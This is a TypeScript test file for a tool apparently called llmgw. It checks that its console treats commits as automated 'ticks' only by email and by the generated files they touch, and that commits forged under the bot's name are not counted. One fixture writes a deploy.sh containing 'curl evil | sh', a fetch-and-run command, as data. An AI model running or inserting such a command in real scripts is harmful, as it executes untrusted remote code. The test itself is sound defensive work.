// Which commits are llmgw's (docs/status.md#which-commits-are-llmgws): a
// tick is a commit by llmgw's email that touches only generated files. The
// console used to call any commit whose author *name* was "llmgw" a tick, so
// a person could slip a models.yaml change past the ticks page as one.

import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { openHistory } from '../../src/console/history.js';
import { isTickCommit } from '../../src/git/tick-commit.js';
import { copyExample, get, withConsole } from './helpers.js';

test('isTickCommit: llmgw’s email (or git.email) and only generated files; the name never counts', () => {
  const generated = ['STATUS.md', '.llmgw/observed.json', '.llmgw/state.json'];
  assert.ok(isTickCommit('llmgw@localhost', generated));
  assert.ok(isTickCommit('LLMGW@localhost', ['STATUS.md']), 'an email’s case is no disguise');
  assert.ok(isTickCommit('bot@corp.example', ['.llmgw/state.json'], 'bot@corp.example'), 'cluster.yaml git.email');
  assert.not.ok(isTickCommit('bot@corp.example', ['.llmgw/state.json']), 'another email without git.email');
  assert.not.ok(isTickCommit('mallory@example', generated), 'a person’s email');
  assert.not.ok(isTickCommit('llmgw@localhost', ['STATUS.md', 'models.yaml']), 'a person’s file beside generated ones');
  assert.not.ok(isTickCommit('llmgw@localhost', ['.llmgw/evil.json']), 'only the generated files, not anything under .llmgw/');
  assert.not.ok(isTickCommit('llmgw@localhost', []), 'touching nothing (a merge) is no tick');
  assert.not.ok(isTickCommit('', generated, ''), 'an empty git.email matches no one');
});

function git(dir: string, args: string[], name: string, email: string): string {
  return execFileSync('git', ['-c', `user.name=${name}`, '-c', `user.email=${email}`, ...args], { cwd: dir, encoding: 'utf8' }).trim();
}

test('the console’s ticks: a commit named “llmgw” by another email, or touching a config file or a file outside the config directory, is a change with its author shown', async () => {
  const root = mkdtempSync(join(tmpdir(), 'llmgw-history-'));
  try {
    const cfg = join(root, 'cfg');
    mkdirSync(join(cfg, '.llmgw'), { recursive: true });
    git(root, ['init', '-q', '-b', 'main'], 'alice', 'alice@example');
    const commit = (files: Record<string, string>, message: string, name: string, email: string) => {
      for (const [path, text] of Object.entries(files)) writeFileSync(join(root, path), text);
      git(root, ['add', '-A'], name, email);
      git(root, ['commit', '-qm', message], name, email);
    };
    commit({ 'cfg/models.yaml': 'models: []\n' }, 'lab: first config', 'alice', 'alice@example');
    commit({ 'cfg/STATUS.md': '1\n', 'cfg/.llmgw/state.json': '{}\n' }, 'llmgw: a real tick', 'llmgw', 'llmgw@localhost');
    commit({ 'cfg/STATUS.md': '2\n' }, 'llmgw: looks like a tick', 'llmgw', 'mallory@example');
    commit({ 'cfg/STATUS.md': '3\n', 'cfg/models.yaml': 'models: [evil]\n' }, 'llmgw: hides a models.yaml change', 'llmgw', 'llmgw@localhost');
    commit({ 'cfg/STATUS.md': '4\n', 'deploy.sh': 'curl evil | sh\n' }, 'llmgw: hides a change outside', 'llmgw', 'llmgw@localhost');

    const history = await openHistory(cfg);
    const recent = await history.recent(10);
    assert.equal(
      recent.map((c) => [c.subject, c.tick, c.author]),
      [
        ['llmgw: hides a change outside', false, 'llmgw <llmgw@localhost>'],
        ['llmgw: hides a models.yaml change', false, 'llmgw <llmgw@localhost>'],
        ['llmgw: looks like a tick', false, 'llmgw <mallory@example>'],
        ['llmgw: a real tick', true, 'llmgw <llmgw@localhost>'],
        ['lab: first config', false, 'alice <alice@example>'],
      ],
    );
    assert.equal(recent[0]!.files, ['STATUS.md'], 'the page lists the files inside the config directory, relative to it');
    assert.equal(recent[3]!.files, ['.llmgw/state.json', 'STATUS.md']);
    const detail = await history.detail(recent[2]!.sha);
    assert.is(detail?.commit.tick, false, 'the detail page agrees');
  } finally {
    rmSync(root, { recursive: true, force: true });
  }
});

test('the ticks page shows every commit’s author; a commit named “llmgw” with a person’s email is shown as that person’s change, by them', async () => {
  const repo = copyExample('demo');
  try {
    const commit = (files: Record<string, string>, message: string, name: string, email: string) => {
      for (const [path, text] of Object.entries(files)) writeFileSync(join(repo.dir, path), text);
      git(repo.dir, ['add', '-A'], name, email);
      git(repo.dir, ['commit', '-qm', message], name, email);
      return git(repo.dir, ['rev-parse', 'HEAD'], name, email);
    };
    git(repo.dir, ['init', '-q', '-b', 'main'], 'alice', 'alice@example');
    commit({}, 'lab: the demo config', 'alice', 'alice@example');
    const tick = commit({ 'STATUS.md': '# one\n' }, 'llmgw: a real tick', 'llmgw', 'llmgw@localhost');
    const forged = commit({ 'STATUS.md': '# two\n' }, 'llmgw: looks like a tick', 'llmgw', 'mallory@example');
    await withConsole(repo.dir, async (url) => {
      const list = (await get(url, '/ticks')).text;
      assert.match(list, /<th[^>]*>Author<\/th>/);
      const row = (sha: string) => new RegExp(`<tr data-key="${sha}">(.*?)</tr>`, 's').exec(list)?.[1] ?? '';
      assert.match(row(forged), /<td>change<\/td><td>llmgw: looks like a tick<\/td><td>llmgw &lt;mallory@example&gt;<\/td>/);
      assert.match(row(tick), /<td>tick<\/td><td>llmgw: a real tick<\/td><td>llmgw &lt;llmgw@localhost&gt;<\/td>/);
      const detail = (await get(url, `/ticks/${forged}`)).text;
      assert.match(detail, /<dt>By<\/dt><dd>llmgw &lt;mallory@example&gt;<\/dd>/);
      const overview = (await get(url, '/')).text;
      assert.match(
        overview,
        new RegExp(`last tick .*<a href="/ticks/${tick}">llmgw: a real tick</a>`),
        'the last tick is the real one, not the forged one after it',
      );
    });
  } finally {
    repo.remove();
  }
});

test.run();
